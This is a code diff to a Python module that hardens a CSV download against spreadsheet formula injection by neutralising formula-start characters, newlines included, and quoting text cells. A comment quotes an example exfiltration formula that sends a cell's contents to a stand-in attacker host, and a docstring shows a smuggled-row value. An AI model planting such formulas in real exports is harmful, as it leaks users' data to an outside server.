@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 
 import geopandas as gpd
@@ -77,7 +78,7 @@ def display_table(catalog: Catalog, lang: str = "en") -> pd.DataFrame:
 # A spreadsheet runs a cell that starts with one of these as a formula
 # (=HYPERLINK("http://evil.example/?leak="&A1, …)): OWASP's CSV injection advice
 # is to prefix such a cell with a single quote, which shows it as text.
-FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
 
 
 def neutralise(value):
@@ -86,8 +87,12 @@ def neutralise(value):
 
 
 def csv_bytes(table: pd.DataFrame) -> bytes:
-    """Any table as a UTF-8 CSV download, every text cell neutralised."""
-    return table.rename(columns=neutralise).map(neutralise).to_csv(index=False).encode("utf-8")
+    """Any table as a UTF-8 CSV download (the one CSV writer of the atlas): every text cell
+    neutralised and quoted. Quoting is what keeps a carriage return or a newline inside a
+    name ("x\\r=1+1") in its cell: unquoted, a spreadsheet starts a new row there, whose
+    first cell "=1+1" the guard above never saw. Numbers stay unquoted numbers."""
+    safe = table.rename(columns=neutralise).map(neutralise)
+    return safe.to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n").encode("utf-8")
 
 
 def to_csv(catalog: Catalog) -> bytes:
